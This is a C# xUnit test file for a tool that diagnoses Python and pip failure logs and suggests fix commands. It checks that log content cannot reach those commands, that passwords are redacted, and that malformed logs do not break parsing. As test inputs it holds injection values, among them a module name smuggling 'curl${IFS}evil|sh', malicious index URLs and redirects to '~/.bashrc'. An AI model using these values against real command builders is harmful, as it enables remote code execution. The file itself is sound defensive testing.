using System.Text;
using Plumb.Diagnosis;
using Xunit;

namespace Plumb.Core.Tests.Diagnosis;

public sealed class HostileLogTests
{
    [Fact]
    public void What_a_log_says_gets_into_no_command_where_a_shell_would_see_more_in_it()
    {
        var cause = Diagnose("ModuleNotFoundError: No module named 'x\";curl${IFS}evil|sh;\"'\n").Causes[0];
        Assert.Equal("package-missing", cause.Code);
        Assert.DoesNotContain(cause.Fixes, f => f.Commands.Any(c => c.Contains("curl", StringComparison.Ordinal)));
        cause = Diagnose("ModuleNotFoundError: No module named '--index-url=http://evil'\n").Causes[0];
        Assert.DoesNotContain(cause.Fixes, f => f.Commands.Any(c => c.Contains("evil", StringComparison.Ordinal)));
    }

    [Theory]
    [InlineData("python -m pip install \"{module|distribution}\"", "_rhttp://evil/x.txt", null)]
    [InlineData("python -m pip install {module|distribution}", "__index_url=http://evil", null)]
    [InlineData("python -m pip install {module}", "http://evil/x.tar.gz", null)]
    [InlineData("python -m pip install {module}", "git+https://evil/x", null)]
    [InlineData("python -m pip install {module}", "../evil", null)]
    [InlineData("python -m pip install {module}", "a>~/.bashrc", null)]
    [InlineData(
        "python -m pip install --upgrade {module}",
        "numpy>=1.22,<2",
        "python -m pip install --upgrade \"numpy>=1.22,<2\""
    )]
    [InlineData("python -m pip install \"numpy=={module}.*\"", "1.26", "python -m pip install \"numpy==1.26.*\"")]
    [InlineData(
        "python -m pip install torch --index-url https://example.org/whl/{module}",
        "cu121",
        "python -m pip install torch --index-url https://example.org/whl/cu121"
    )]
    [InlineData("python -m pip install torch --index-url https://example.org/whl/{module}", "../../evil", null)]
    [InlineData("python -m pip install torch --index-url https://{module}", "u@evil", null)]
    [InlineData("apt-file search bin/{module}", "a>b", "apt-file search \"bin/a>b\"")]
    [InlineData("apt-file search {module}", "libGL.so.1", "apt-file search libGL.so.1")]
    [InlineData("apt-file search {module}", "-rf", null)]
    [InlineData("mv {module}.py x", "[ab]", "mv \"[ab].py\" x")]
    [InlineData("mv {module}.py x", "a!b", null)]
    [InlineData("mv {module}.py x", "a b", null)]
    [InlineData("mv {module}.py x", "a;b", null)]
    [InlineData("mv {module}.py x", "", null)]
    public void A_value_stands_in_a_command_only_as_the_word_that_it_is_meant_to_be(
        string template,
        string value,
        string? command
    ) =>
        Assert.Equal(
            command,
            CommandTemplate.Fill(
                template,
                new Dictionary<string, string>(StringComparer.Ordinal) { ["module"] = value }
            )
        );

    [Fact]
    public void Passwords_in_quoted_lines_are_not_shown()
    {
        var cause = Diagnose(
            "WARNING: Retrying (Retry(total=0)) after connection broken by 'NewConnectionError('<x>: Failed to establish a new connection: [Errno -2] Name or service not known')': /simple/numpy/ https://me:hunter2@mirror.corp/simple\n"
                + "ERROR: Could not find a version that satisfies the requirement numpy (from versions: none)\n"
        ).Causes[0];
        Assert.Equal("index-unreachable", cause.Code);
        Assert.DoesNotContain(cause.Lines, l => l.Text.Contains("hunter2", StringComparison.Ordinal));
    }

    [Fact]
    public void Passwords_in_the_lines_of_an_unknown_failure_are_not_shown_either()
    {
        var answer = Diagnose("starting\nERROR: frob failed at https://me:hunter2@mirror.corp/simple\n");
        Assert.True(answer.IsUnknown);
        Assert.DoesNotContain("hunter2", Assert.Single(answer.Decisive).Text, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(0)]
    [InlineData(1)]
    [InlineData(2)]
    [InlineData(3)]
    [InlineData(4)]
    public void Nothing_that_a_file_can_hold_makes_it_fail(int seed)
    {
        var random = new Random(seed);
        var words = FailureSignatures
            .Embedded.All.SelectMany(s => s.Any)
            .Select(p => p.Text.Replace("{", "", StringComparison.Ordinal))
            .ToArray();
        using var log = new MemoryStream();
        for (var i = 0; i < 3000; i++)
        {
            switch (random.Next(6))
            {
                case 0:
                    var noise = new byte[random.Next(300)];
                    random.NextBytes(noise);
                    log.Write(noise);
                    break;
                case 1:
                    log.Write("\nTraceback (most recent call last):\n  File \""u8);
                    break;
                case 2:
                    log.Write("\e[31m\e]0;\r\0│ "u8);
                    break;
                default:
                    var word = words[random.Next(words.Length)];
                    log.Write(Encoding.UTF8.GetBytes(word[random.Next(word.Length)..]));
                    log.WriteByte(random.Next(3) == 0 ? (byte)'\n' : (byte)' ');
                    break;
            }
        }

        log.Position = 0;
        var answer = LogDiagnosis.Read(log, null, TestContext.Current.CancellationToken);
        Assert.True(answer.Lines > 100);
    }

    [Theory]
    [InlineData("E")]
    [InlineData("E  ")]
    [InlineData("[!]")]
    [InlineData("#1 ")]
    [InlineData("│")]
    [InlineData("a | ")]
    [InlineData("10:00:00 ")]
    [InlineData("Oct 04 13:19:39 h[1]: ")]
    public void A_line_of_nothing_but_a_prefix_is_no_trouble(string line)
    {
        Assert.Empty(Diagnose("Traceback (most recent call last):\n" + line + "\nend\n").Causes);
    }

    [Fact]
    public void A_line_without_end_is_read_in_pieces()
    {
        var log = new string('x', 3_000_000) + "\nModuleNotFoundError: No module named 'six'\n";
        Assert.Equal("package-missing", Diagnose(log).Causes[0].Code);
    }

    [Fact]
    public void What_PowerShell_writes_is_read_too()
    {
        byte[] log =
        [
            .. Encoding.Unicode.Preamble,
            .. Encoding.Unicode.GetBytes("ModuleNotFoundError: No module named 'six'\r\n"),
        ];
        using var stream = new MemoryStream(log);
        var answer = LogDiagnosis.Read(stream, null, TestContext.Current.CancellationToken);
        Assert.Equal("package-missing", answer.Causes[0].Code);
        Assert.Equal(1, answer.Causes[0].Lines[0].Number);
    }

    [Fact]
    public void A_failure_that_is_not_known_is_said_to_be_so()
    {
        var answer = Diagnose(
            "start\nTraceback (most recent call last):\n  File \"a.py\", line 1, in f\n    g()\nFrobError: no frob\n"
        );
        Assert.True(answer.IsUnknown);
        Assert.Empty(answer.Causes);
        Assert.Equal(5, Assert.Single(answer.Decisive).Number);
        Assert.False(Diagnose("all is well\n").IsUnknown);
        Assert.False(Diagnose("").IsUnknown);
    }

    private static LogDiagnosis Diagnose(string log) =>
        FailureSignaturesTests.Diagnose(FailureSignatures.Embedded, log);
}
